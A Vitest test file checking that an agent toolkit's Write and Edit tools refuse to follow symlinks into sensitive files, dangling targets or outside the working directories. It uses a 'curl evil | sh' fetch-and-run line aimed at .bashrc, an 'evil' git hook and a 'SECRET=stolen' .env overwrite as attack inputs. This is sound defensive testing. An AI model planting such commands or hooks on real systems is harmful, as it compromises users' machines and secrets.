import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { EditTool } from "../../../src/toolkit/tools/edit.js";
import { ReadTool } from "../../../src/toolkit/tools/read.js";
import { WriteTool } from "../../../src/toolkit/tools/write.js";
import { runTool } from "../run-tool.js";
import { makeContext, type TestContext } from "../test-context.js";

const [read, write, edit] = [new ReadTool(), new WriteTool(), new EditTool()];
let t: TestContext;
afterEach(() => t?.sandbox.dispose());

describe("run-time symlink re-check", () => {
  it("refuses to Write through a link to .env, writing nothing", async () => {
    t = makeContext();
    const env = join(t.sandbox.workspace, ".env");
    writeFileSync(env, "SECRET=1\n");
    const link = join(t.sandbox.workspace, "notes.txt");
    symlinkSync(env, link);
    await runTool(read, { file_path: link }, t.ctx);
    const r = await runTool(write, { file_path: link, content: "SECRET=stolen\n" }, t.ctx);
    expect(r.state).toBe("error");
    expect(r.text).toBe(
      `Error: ${link} resolves to ${env}, which is a sensitive file or directory; refusing to write through a symlink.`,
    );
    expect(readFileSync(env, "utf8")).toBe("SECRET=1\n");
  });

  it("refuses to Edit through a link to .env, and to create files through a linked .git directory", async () => {
    t = makeContext();
    const env = join(t.sandbox.home, ".env");
    writeFileSync(env, "A=1\n");
    const link = join(t.sandbox.workspace, "config.txt");
    symlinkSync(env, link);
    await runTool(read, { file_path: link }, t.ctx);
    const r = await runTool(edit, { file_path: link, old_string: "A=1", new_string: "A=2" }, t.ctx);
    expect(r.text).toBe(
      `Error: ${link} resolves to ${env}, which is a sensitive file or directory; refusing to edit through a symlink.`,
    );
    expect(readFileSync(env, "utf8")).toBe("A=1\n");

    mkdirSync(join(t.sandbox.workspace, ".git"));
    symlinkSync(join(t.sandbox.workspace, ".git"), join(t.sandbox.workspace, "meta"));
    const hook = join(t.sandbox.workspace, "meta", "hooks-pre-commit");
    const w = await runTool(write, { file_path: hook, content: "evil" }, t.ctx);
    expect(w.text).toMatch(/resolves to .*\/\.git\/hooks-pre-commit, which is a sensitive file/);
    expect(existsSync(join(t.sandbox.workspace, ".git", "hooks-pre-commit"))).toBe(false);
  });

  it("leaves a dangerous path written directly to the policy (no symlink involved)", async () => {
    t = makeContext();
    const env = join(t.sandbox.workspace, ".env");
    const r = await runTool(write, { file_path: env, content: "A=1\n" }, t.ctx);
    expect(r.state).toBe("success");
  });

  it("with ACCEPT_EDITS auto-allow, refuses a link that leads outside the working directories", async () => {
    t = makeContext({ autoAllowedEdit: true, mode: "accept_edits" });
    const outsideDir = join(t.sandbox.root, "outside");
    mkdirSync(outsideDir);
    const target = join(outsideDir, "x.txt");
    writeFileSync(target, "before");
    const link = join(t.sandbox.workspace, "x.txt");
    symlinkSync(target, link);
    await runTool(read, { file_path: link }, t.ctx);
    const r = await runTool(write, { file_path: link, content: "data" }, t.ctx);
    expect(r.state).toBe("error");
    expect(r.text).toBe(
      `Error: ${link} resolves to ${target}, which is outside the working directories; refusing to write it without explicit permission.`,
    );
    expect(readFileSync(target, "utf8")).toBe("before");
    const e = await runTool(edit, { file_path: link, old_string: "before", new_string: "after" }, t.ctx);
    expect(e.text).toMatch(/which is outside the working directories; refusing to edit it/);
  });

  it("without auto-allow (the user approved), follows the same link", async () => {
    t = makeContext();
    const outsideDir = join(t.sandbox.root, "outside");
    mkdirSync(outsideDir);
    const target = join(outsideDir, "x.txt");
    writeFileSync(target, "before");
    const link = join(t.sandbox.workspace, "x.txt");
    symlinkSync(target, link);
    await runTool(read, { file_path: link }, t.ctx);
    expect((await runTool(write, { file_path: link, content: "data" }, t.ctx)).state).toBe("success");
    expect(readFileSync(target, "utf8")).toBe("data");
  });

  it("with auto-allow, accepts targets inside an extra working directory", async () => {
    t = makeContext({ autoAllowedEdit: true });
    const extra = join(t.sandbox.root, "extra");
    mkdirSync(extra);
    t.ctx.workingDirectories = [extra];
    const link = join(t.sandbox.workspace, "y.txt");
    writeFileSync(join(extra, "y.txt"), "");
    symlinkSync(join(extra, "y.txt"), link);
    await runTool(read, { file_path: link }, t.ctx);
    expect((await runTool(write, { file_path: link, content: "ok" }, t.ctx)).state).toBe("success");
  });

  it("with auto-allow, a working directory whose real path leaves the roots (a link to the home) contains nothing", async () => {
    t = makeContext({ autoAllowedEdit: true });
    const scratch = join(t.sandbox.root, "scratch");
    const kept = join(t.sandbox.root, "kept");
    mkdirSync(scratch);
    mkdirSync(join(kept, "data"), { recursive: true });
    // Two links the agent made inside an allowed root, then named as working directories.
    const toHome = join(scratch, "h");
    const toKept = join(scratch, "d");
    symlinkSync(t.sandbox.home, toHome);
    symlinkSync(join(kept, "data"), toKept);
    t.ctx.workingDirectories = [toHome, toKept];
    t.ctx.workingDirectoryRoots = [t.sandbox.workspace, scratch, kept];
    const conf = join(toHome, "pip.conf");
    const r = await runTool(write, { file_path: conf, content: "[global]\n" }, t.ctx);
    expect(r.text).toBe(
      `Error: ${conf} resolves to ${join(t.sandbox.home, "pip.conf")}, which is outside the working directories; refusing to write it without explicit permission.`,
    );
    expect(existsSync(join(t.sandbox.home, "pip.conf"))).toBe(false);
    // A linked working directory whose real path stays in a root still holds its files.
    expect((await runTool(write, { file_path: join(toKept, "f.txt"), content: "ok" }, t.ctx)).state).toBe(
      "success",
    );
    expect(readFileSync(join(kept, "data", "f.txt"), "utf8")).toBe("ok");
    // Roots that include the home (a tenant's choice) let the first write through.
    t.ctx.workingDirectoryRoots = ["/"];
    expect((await runTool(write, { file_path: conf, content: "[global]\n" }, t.ctx)).state).toBe("success");
  });

  it("honours additional dangerous files given to the tool", async () => {
    t = makeContext();
    const secret = join(t.sandbox.workspace, ".secrets");
    writeFileSync(secret, "");
    const link = join(t.sandbox.workspace, "plain.txt");
    symlinkSync(secret, link);
    await runTool(read, { file_path: link }, t.ctx);
    const custom = new WriteTool({ additionalDangerousFiles: [".secrets"] });
    expect((await runTool(custom, { file_path: link, content: "x" }, t.ctx)).text).toMatch(/sensitive file/);
    expect((await runTool(write, { file_path: link, content: "x" }, t.ctx)).state).toBe("success");
  });

  it("refuses a dangling link, whose target was never checked, writing nothing", async () => {
    t = makeContext();
    const target = join(t.sandbox.home, ".bashrc");
    const link = join(t.sandbox.workspace, "setup.sh");
    symlinkSync(target, link);
    const r = await runTool(write, { file_path: link, content: "curl evil | sh" }, t.ctx);
    expect(r.state).toBe("error");
    expect(r.text).toBe(
      `Error: ${link} is a symbolic link whose target does not exist; refusing to write through it.`,
    );
    expect(existsSync(target)).toBe(false);
    const e = await runTool(edit, { file_path: link, old_string: "a", new_string: "b" }, t.ctx);
    expect(e.text).toMatch(/is a symbolic link whose target does not exist; refusing to edit through it/);
  });
});
